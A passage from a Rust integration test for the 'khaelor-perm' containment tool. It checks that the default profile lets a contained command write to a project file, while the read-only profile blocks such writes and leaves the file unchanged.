    assert!(text(&o.stdout).contains("sum 2"), "{}", text(&o.stdout));
    assert!(text(&o.stderr).contains("Read-only file system"));
    assert!(
        text(&o.stderr).contains("is read-only"),
        "{}",
        text(&o.stderr)
    );
    assert_message(&o, "inline code changing the project");
    assert_eq!(
        std::fs::read_to_string(w.root.join("src/main.rs")).unwrap(),
        "plain\n"
    );
    // The default profile keeps the project writable; `--profile read-only` does not.
    let o = contained(&w, "echo edited > src/main.rs");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let o = Command::new(env!("CARGO_BIN_EXE_khaelor-perm"))
        .args(["exec", "--contain", "--profile", "read-only", "--root"])
        .args([
            w.root.to_str().unwrap(),
            "--",
            "bash",
            "-c",
            "echo again > src/main.rs",
        ])
        .current_dir(&w.root)
        .env("HOME", &w.home)
        .output()
        .unwrap();
    assert_ne!(o.status.code(), Some(0));
    assert_eq!(
        std::fs::read_to_string(w.root.join("src/main.rs")).unwrap(),
        "edited\n"
    );
}
